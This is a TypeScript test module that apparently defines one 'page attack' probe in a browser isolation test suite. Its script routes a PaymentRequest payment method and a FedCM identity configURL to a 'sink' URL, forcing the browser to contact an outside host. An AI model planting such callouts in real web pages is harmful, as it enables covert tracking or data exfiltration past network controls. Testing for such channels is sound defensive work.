import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "what a browser fetches to pay and to sign in",
  script: `
    const https = sink.replace("http:", "https:");
    try { await new PaymentRequest([{ supportedMethods: https }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(); } catch {}
    const identity = { providers: [{ configURL: https, clientId: "x" }] };
    const limit = AbortSignal.timeout(500);
    try { await navigator.credentials.get({ identity, signal: limit }); } catch {}
  `,
};
